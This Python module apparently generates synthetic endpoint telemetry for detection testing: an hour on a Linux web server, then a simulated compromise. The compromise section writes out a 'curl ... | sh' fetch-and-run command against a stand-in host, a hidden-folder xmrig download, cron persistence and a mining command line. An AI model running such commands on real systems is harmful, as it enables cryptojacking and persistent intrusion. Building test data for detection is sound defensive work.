"""Endpoint agent envelopes: one Linux web server over an hour, compromised at 13:41."""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

from samplegen import fake_sha256

AGENT_ID = "5f0c2a9e-7b1d-4c3e-9a8f-1d2e3f4a5b6c"
HOST = "web-01"
START = datetime(2024, 5, 1, 13, 0, tzinfo=UTC)


class _Agent:
    """Builds envelopes for one host with increasing ids and epoch-millisecond times."""

    def __init__(self) -> None:
        self.seq = 0
        self.events: list[tuple[datetime, dict[str, Any]]] = []

    def emit(self, t: datetime, event_type: str, payload: dict[str, Any]) -> None:
        payload = {"hostname": HOST, **payload}
        self.events.append((t, {"event_type": event_type, "payload": payload}))

    def envelopes(self) -> Iterator[dict[str, Any]]:
        for t, body in sorted(self.events, key=lambda e: e[0]):
            self.seq += 1
            yield {
                "event_id": f"{AGENT_ID[:8]}-{self.seq:06d}",
                "agent_id": AGENT_ID,
                "event_type": body["event_type"],
                "timestamp": int(t.timestamp() * 1000),
                "payload": body["payload"],
            }


def _proc(
    pid: int,
    ppid: int,
    name: str,
    exe: str,
    cmdline: list[str],
    user: str,
    parent: tuple[str, str],
    action: str = "start",
) -> dict[str, Any]:
    return {
        "action": action,
        "pid": pid,
        "ppid": ppid,
        "name": name,
        "exe": exe,
        "cmdline": cmdline,
        "username": user,
        "sha256": fake_sha256(exe),
        "parent_name": parent[0],
        "parent_exe": parent[1],
    }


def _conn(
    pid: int,
    name: str,
    exe: str,
    local: tuple[str, int],
    remote: tuple[str, int],
    direction: str,
    protocol: str = "tcp",
) -> dict[str, Any]:
    return {
        "pid": pid,
        "process_name": name,
        "exe": exe,
        "local_ip": local[0],
        "local_port": local[1],
        "remote_ip": remote[0],
        "remote_port": remote[1],
        "protocol": protocol,
        "status": "ESTABLISHED",
        "direction": direction,
    }


def agent_events(rng: random.Random) -> Iterator[dict[str, Any]]:
    """An hour of a web server: nginx + gunicorn + cron + an admin, then a compromise."""
    agent = _Agent()
    agent.emit(
        START,
        "system",
        {
            "os": "Linux",
            "os_version": "Ubuntu 22.04.4 LTS",
            "boot_time": 1714460400,
            "cpu_count": 4,
            "mem_total": 8_254_390_272,
            "ip_addresses": ["10.0.1.20", "fe80::4a1:2bff:fe3c:9d10"],
        },
    )
    _web_traffic(agent, rng)
    _cron_and_admin(agent, rng)
    _compromise(agent, rng)
    return agent.envelopes()


_NGINX = ("nginx", "/usr/sbin/nginx")
_GUNICORN = ("gunicorn", "/usr/bin/python3.10")


def _web_traffic(agent: _Agent, rng: random.Random) -> None:
    """Clients reach nginx on 443; gunicorn talks to PostgreSQL; uploads land on disk."""
    for i in range(40):
        t = START + timedelta(seconds=rng.randint(30, 3570))
        client = (f"198.51.100.{rng.randint(2, 250)}", rng.randint(40000, 60999))
        agent.emit(t, "network", _conn(1187, *_NGINX, ("10.0.1.20", 443), client, "inbound"))
        if i % 3 == 0:
            db = ("10.0.2.15", 5432)
            local = ("10.0.1.20", rng.randint(41000, 42000))
            agent.emit(
                t + timedelta(milliseconds=40),
                "network",
                _conn(2211, *_GUNICORN, local, db, "outbound"),
            )
        if i % 8 == 0:
            path = f"/srv/app/uploads/{rng.getrandbits(48):012x}.png"
            agent.emit(
                t + timedelta(milliseconds=90),
                "file",
                {
                    "action": "create",
                    "path": path,
                    "size": rng.randint(20_000, 900_000),
                    "sha256": fake_sha256(path),
                    "pid": 2211,
                    "process_name": "gunicorn",
                },
            )
    agent.emit(
        START + timedelta(minutes=5),
        "network",
        {
            **_conn(1187, *_NGINX, ("0.0.0.0", 443), ("0.0.0.0", 0), "inbound"),
            "status": "LISTEN",
            "remote_ip": None,
            "remote_port": None,
        },
    )


def _cron_and_admin(agent: _Agent, rng: random.Random) -> None:
    """An hourly cron job and an administrator deploying over SSH."""
    cron = ("cron", "/usr/sbin/cron")
    t = START + timedelta(minutes=17)
    agent.emit(
        t,
        "process",
        _proc(
            3301,
            812,
            "sh",
            "/usr/bin/dash",
            ["/bin/sh", "-c", "cd / && run-parts --report /etc/cron.hourly"],
            "root",
            cron,
        ),
    )
    agent.emit(
        t + timedelta(seconds=2),
        "process",
        _proc(3301, 812, "sh", "/usr/bin/dash", ["/bin/sh"], "root", cron, "stop"),
    )
    t = START + timedelta(minutes=24)
    sshd = ("sshd", "/usr/sbin/sshd")
    agent.emit(t, "network", _conn(3390, *sshd, ("10.0.1.20", 22), ("10.0.0.8", 51514), "inbound"))
    agent.emit(
        t + timedelta(seconds=1),
        "process",
        _proc(3402, 3390, "bash", "/usr/bin/bash", ["-bash"], "deploy", sshd),
    )
    bash = ("bash", "/usr/bin/bash")
    steps = [
        ["git", "-C", "/srv/app", "pull", "--ff-only"],
        ["sudo", "systemctl", "reload", "gunicorn"],
        ["tail", "-n", "50", "/var/log/nginx/error.log"],
    ]
    for k, argv in enumerate(steps):
        at = t + timedelta(seconds=20 + 30 * k)
        exe = {"git": "/usr/bin/git", "sudo": "/usr/bin/sudo", "tail": "/usr/bin/tail"}[argv[0]]
        agent.emit(at, "process", _proc(3410 + k, 3402, argv[0], exe, argv, "deploy", bash))
        agent.emit(
            at + timedelta(seconds=3),
            "process",
            _proc(3410 + k, 3402, argv[0], exe, argv, "deploy", bash, "stop"),
        )
    agent.emit(
        t + timedelta(seconds=22),
        "network",
        _conn(3410, "git", "/usr/bin/git", ("10.0.1.20", 53122), ("192.0.2.80", 443), "outbound"),
    )


MINER_IP = "198.51.100.23"
DROPPER_IP = "203.0.113.66"
WALLET = "4" + "KestrelSampleWalletNotReal" + "x" * 68  # Monero-address-shaped, made up


def _compromise(agent: _Agent, rng: random.Random) -> None:
    """The web app runs a shell that pipes a downloaded script into sh; the script drops
    xmrig in a hidden folder, adds a cron entry and starts mining to a pool on port 3333."""
    t = START + timedelta(minutes=41, seconds=7)
    dropper = ["/bin/sh", "-c", f"curl -fsSL http://{DROPPER_IP}/x.sh | sh"]
    sh = ("sh", "/usr/bin/dash")
    agent.emit(
        t, "process", _proc(4120, 2211, "sh", "/usr/bin/dash", dropper, "www-data", _GUNICORN)
    )
    agent.emit(
        t + timedelta(milliseconds=5),
        "process",
        _proc(
            4121,
            4120,
            "curl",
            "/usr/bin/curl",
            ["curl", "-fsSL", f"http://{DROPPER_IP}/x.sh"],
            "www-data",
            sh,
        ),
    )
    agent.emit(
        t + timedelta(milliseconds=6),
        "process",
        _proc(4122, 4120, "sh", "/usr/bin/dash", ["sh"], "www-data", sh),
    )
    agent.emit(
        t + timedelta(milliseconds=60),
        "network",
        _conn(4121, "curl", "/usr/bin/curl", ("10.0.1.20", 46810), (DROPPER_IP, 80), "outbound"),
    )
    _drop_and_mine(agent, rng, t + timedelta(seconds=2))


def _drop_and_mine(agent: _Agent, rng: random.Random, t: datetime) -> None:
    sh = ("sh", "/usr/bin/dash")
    miner = "/var/tmp/.cache/.x/xmrig"
    fetch = ["curl", "-fsSL", "-o", miner, f"http://{DROPPER_IP}/xmrig"]
    agent.emit(t, "process", _proc(4125, 4122, "curl", "/usr/bin/curl", fetch, "www-data", sh))
    agent.emit(
        t + timedelta(seconds=3),
        "file",
        {
            "action": "create",
            "path": miner,
            "size": 8_241_384,
            "sha256": fake_sha256("xmrig-6.21.0"),
            "pid": 4125,
            "process_name": "curl",
        },
    )
    agent.emit(
        t + timedelta(seconds=4),
        "process",
        _proc(4127, 4122, "chmod", "/usr/bin/chmod", ["chmod", "+x", miner], "www-data", sh),
    )
    cron = "/var/spool/cron/crontabs/www-data"
    agent.emit(
        t + timedelta(seconds=5),
        "file",
        {"action": "modify", "path": cron, "size": 96, "pid": 4128, "process_name": "crontab"},
    )
    argv = [
        miner,
        "-o",
        f"{MINER_IP}:3333",
        "-u",
        WALLET,
        "-p",
        "web01",
        "--donate-level",
        "1",
        "-B",
    ]
    start = t + timedelta(seconds=6)
    agent.emit(
        start,
        "process",
        {
            **_proc(4131, 1, "xmrig", miner, argv, "www-data", sh),
            "sha256": fake_sha256("xmrig-6.21.0"),
        },
    )
    for k in range(6):
        agent.emit(
            start + timedelta(seconds=2 + 150 * k),
            "network",
            _conn(4131, "xmrig", miner, ("10.0.1.20", 50110 + k), (MINER_IP, 3333), "outbound"),
        )
    agent.emit(
        t + timedelta(seconds=8),
        "file",
        {"action": "delete", "path": "/tmp/x.sh", "pid": 4122, "process_name": "sh"},
    )
